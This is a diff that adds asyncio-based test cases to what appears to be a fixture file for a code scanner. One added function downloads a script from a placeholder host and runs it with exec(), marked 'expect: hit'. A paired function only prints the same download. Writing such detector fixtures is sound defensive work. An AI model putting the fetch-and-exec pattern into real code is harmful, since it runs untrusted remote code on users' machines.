@@ -1,3 +1,4 @@
+import asyncio
 import ctypes
 import hashlib
 import importlib.util
@@ -140,3 +141,15 @@ def data_files():
         file.write(requests.get("https://data.corp.example/").text)
     subprocess.run(["xdg-open", "/tmp/page-copy.html"])
     subprocess.run(["/opt/tools/viewer"])
+
+
+async def in_executor():
+    loop = asyncio.get_running_loop()
+    reply = await loop.run_in_executor(None, urllib.request.urlopen, "https://x.example/y.py")
+    exec(reply.read().decode())  # expect: hit
+
+
+async def printed_in_executor():
+    loop = asyncio.get_running_loop()
+    reply = await loop.run_in_executor(None, urllib.request.urlopen, "https://x.example/y.py")
+    print(reply.read().decode())
